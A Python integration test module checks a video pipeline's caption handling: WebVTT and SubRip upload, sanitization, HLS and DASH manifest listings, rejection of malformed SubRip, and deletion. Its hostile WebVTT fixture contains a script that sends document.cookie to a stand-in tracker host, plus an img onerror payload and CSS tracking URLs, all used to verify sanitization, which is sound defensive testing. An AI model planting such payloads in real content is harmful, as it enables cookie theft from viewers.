"""Captions on the deployed stack: a completed job takes a hostile WebVTT and a SubRip file through presigned PUTs;
the served WebVTT is clean, the HLS master and the DASH MPD list both tracks (read by `m3u8` and `mpegdash`, the
WebVTT by the layer's ffprobe), a malformed SubRip answers 422 with its line, and a delete rewrites the manifests.

One job is shared by the module (a 2 s 640x360 source, one rung); everything else is API calls and S3 reads.
"""

from __future__ import annotations

import json
import subprocess
import urllib.error
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from uuid import uuid4

import m3u8
import pytest
from mpegdash.parser import MPEGDASHParser

from tests.integration.api.test_api import LAYER_BIN, Client, ffmpeg, http
from vodpipe.local.stack import LocalDeployment
from vodpipe.local.users import create_token

pytestmark = pytest.mark.skipif(not (LAYER_BIN / "ffmpeg").is_file(), reason="ffmpeg layer not built")

HOSTILE_VTT = """WEBVTT

STYLE
::cue { background-image: url(https://tracker.example/pixel.png) }

NOTE made by https://tracker.example

1
00:00:00.200 --> 00:00:01.000 align:start region:evil
<script>fetch('https://tracker.example/?c=' + document.cookie)</script>Hello <b>there</b>
<img src="https://tracker.example/x.png" onerror="alert(1)">

00:00:01.000 --> 00:00:09.000
<v Narrator>Runs past the end: cut back</v>
"""
SRT = (
    "1\r\n00:00:00,500 --> 00:00:01,500\r\n<i>Bonjour</i> {\\an8}à tous\r\n\r\n"
    "2\r\n00:00:01,500 --> 00:00:01,900\r\nFin\r\n"
)
MALFORMED_SRT = "1\n00:00:00,500 --> 00:00:01,000\nok\n\n2\n00:00:01,000 => 00:00:01,500\nbroken\n"


@dataclass
class Captioned:
    stack: LocalDeployment
    alice: Client
    s3: Any
    job: dict[str, Any]
    english: dict[str, Any]
    french: dict[str, Any]
    media: Path

    def text(self, key: str) -> str:
        body: bytes = self.s3.get_object(Bucket=self.stack.outputs_bucket, Key=key)["Body"].read()
        return body.decode()

    def exists(self, key: str) -> bool:
        try:
            self.s3.head_object(Bucket=self.stack.outputs_bucket, Key=key)
        except self.s3.exceptions.ClientError:
            return False
        return True

    @property
    def stream(self) -> str:
        """The directory of the master and the MPD (every URI in them is relative to it)."""
        return str(self.job["outputs"]["manifest_key"]).rsplit("/", 1)[0] + "/"


def put(url: str, data: bytes) -> int:
    request = urllib.request.Request(url, data=data, method="PUT")
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return int(response.status)
    except urllib.error.HTTPError as error:
        error.read()
        return int(error.code)


def add(client: Client, job_id: str, data: str, **body: Any) -> Any:
    created = client("POST", f"/jobs/{job_id}/captions", body)
    assert created.status == 201, created.body
    assert put(created.body["upload_url"], data.encode()) == 200
    return client("POST", f"/jobs/{job_id}/captions/{created.body['caption']['caption_id']}/complete", {})


@pytest.fixture(scope="module")
def captioned(
    stack: LocalDeployment, aws_client: Callable[..., Any], tmp_path_factory: pytest.TempPathFactory
) -> Captioned:
    media = tmp_path_factory.mktemp("captions")
    owner = f"it-captions-{uuid4().hex[:8]}"
    alice = Client(stack.api_url, create_token(aws_client("dynamodb"), stack.jobs_table, owner), owner)
    source = media / "source.mp4"
    ffmpeg(
        "-f", "lavfi", "-i", "testsrc2=size=640x360:rate=30:duration=2",
        "-f", "lavfi", "-i", "sine=frequency=440:sample_rate=48000:duration=2",
        "-c:v", "libx264", "-preset", "ultrafast", "-g", "30", "-pix_fmt", "yuv420p", "-c:a", "aac", "-ac", "2",
        str(source),
    )  # fmt: skip
    job_id = alice.upload(source.read_bytes(), renditions=["360p"])["job_id"]
    job = alice.until(job_id, "COMPLETED", "FAILED", deadline_s=240)
    assert job["status"] == "COMPLETED", job.get("error_message")
    english = add(alice, job_id, HOSTILE_VTT, language="EN-us", label="English", default=True)
    assert english.status == 200, english.body
    french = add(alice, job_id, SRT, language="fr", label="Français", format="srt")
    assert french.status == 200, french.body
    return Captioned(stack, alice, aws_client("s3"), alice.job(job_id), english.body, french.body, media)


def test_the_served_webvtt_is_clean(captioned: Captioned) -> None:
    caption = captioned.english
    assert caption["status"] == "ready"
    assert {"script", "img", "style", "note", "settings"} <= set(caption["removed"])
    vtt = captioned.text(caption["key"])
    blocks = vtt.split("\n\n")
    assert blocks[:2] == ["WEBVTT", "1\n00:00:00.200 --> 00:00:01.000 align:start\nHello <b>there</b>"]
    timing, text = blocks[2].strip().split("\n")
    assert text == "<v Narrator>Runs past the end: cut back</v>"
    # Cut back to the video's end (2 s, give or take a frame of the encoded duration), not refused.
    start, end = timing.split(" --> ")
    assert start == "00:00:01.000"
    assert "00:00:01.900" <= end <= "00:00:02.100"
    assert len(blocks) == 3
    for forbidden in ("tracker", "script", "img", "url(", "STYLE", "NOTE", "region"):
        assert forbidden not in vtt
    french = captioned.text(captioned.french["key"])
    assert "<i>Bonjour</i> à tous" in french
    assert "{" not in french


def test_ffprobe_reads_each_webvtt_track(captioned: Captioned) -> None:
    for caption, cues in ((captioned.english, 2), (captioned.french, 2)):
        path = captioned.media / f"{caption['caption_id']}.vtt"
        path.write_text(captioned.text(caption["key"]))
        packets = subprocess.run(
            [str(LAYER_BIN / "ffprobe"), "-v", "error", "-f", "webvtt", "-show_packets", "-of", "json", str(path)],
            check=True, capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        assert len(json.loads(packets.stdout)["packets"]) == cues


def test_the_master_lists_the_subtitles_on_every_variant(captioned: Captioned) -> None:
    master = m3u8.loads(captioned.text(captioned.job["outputs"]["manifest_key"]))
    subtitles = [m for m in master.media if m.type == "SUBTITLES"]
    assert [(m.language, m.name, m.default, m.group_id) for m in subtitles] == [
        ("en-US", "English", "YES", "subs"),
        ("fr", "Français", "NO", "subs"),
    ]
    assert master.playlists
    assert all(variant.stream_info.subtitles == "subs" for variant in master.playlists)
    for media, caption in zip(subtitles, (captioned.english, captioned.french), strict=True):
        playlist = m3u8.loads(captioned.text(captioned.stream + media.uri))
        assert playlist.is_endlist
        [segment] = playlist.segments
        assert captioned.stream + media.uri.rsplit("/", 1)[0] + "/" + segment.uri == caption["key"]
        assert abs(segment.duration - 2.0) < 0.2
        assert playlist.target_duration >= segment.duration


def test_the_mpd_has_a_text_adaptation_set_per_caption(captioned: Captioned) -> None:
    mpd = MPEGDASHParser.parse(captioned.text(captioned.job["outputs"]["dash_manifest_key"]))
    texts = [s for s in mpd.periods[0].adaptation_sets if s.content_type == "text"]
    assert [(s.mime_type, s.lang) for s in texts] == [("text/vtt", "en-US"), ("text/vtt", "fr")]
    for adaptation, caption in zip(texts, (captioned.english, captioned.french), strict=True):
        assert captioned.stream + adaptation.representations[0].base_urls[0].base_url_value == caption["key"]


def test_the_job_names_its_captions(captioned: Captioned) -> None:
    job = captioned.job
    assert [c["caption_id"] for c in job["captions"]] == [
        captioned.english["caption_id"],
        captioned.french["caption_id"],
    ]
    keys = {f["key"] for f in job["outputs"]["files"] if f["kind"] == "captions"}
    assert keys == {captioned.english["key"], captioned.french["key"]}


def test_a_malformed_subrip_answers_422_with_its_line(captioned: Captioned) -> None:
    answer = add(captioned.alice, captioned.job["job_id"], MALFORMED_SRT, language="de", format="srt")
    assert answer.status == 422, answer.body
    assert answer.field == "file"
    assert answer.body["message"].startswith("line 6: malformed cue timing")


def test_a_job_not_completed_takes_no_caption(captioned: Captioned) -> None:
    created = captioned.alice("POST", "/uploads", {"file_name": "later.mp4", "size": 1000})
    assert created.status == 201
    job_id = created.body["job"]["job_id"]
    assert captioned.alice("POST", f"/jobs/{job_id}/captions", {"language": "en"}).status == 409
    captioned.alice("DELETE", f"/uploads/{job_id}")


def test_deleting_a_caption_rewrites_the_manifests(captioned: Captioned) -> None:
    job_id, french = captioned.job["job_id"], captioned.french
    listed = captioned.alice("GET", f"/jobs/{job_id}/captions").body["captions"]
    pending = [c["caption_id"] for c in listed if c["status"] == "pending"]  # the malformed one, left pending
    for caption_id in [french["caption_id"], *pending]:
        assert captioned.alice("DELETE", f"/jobs/{job_id}/captions/{caption_id}").status == 204
    master = m3u8.loads(captioned.text(captioned.job["outputs"]["manifest_key"]))
    assert [m.language for m in master.media if m.type == "SUBTITLES"] == ["en-US"]
    mpd = captioned.text(captioned.job["outputs"]["dash_manifest_key"])
    assert 'lang="fr"' not in mpd
    assert 'lang="en-US"' in mpd
    assert not captioned.exists(french["key"])
    left = http("GET", f"{captioned.stack.api_url}/jobs/{job_id}/captions", token=captioned.alice.token)
    assert [c["caption_id"] for c in left.body["captions"]] == [captioned.english["caption_id"]]
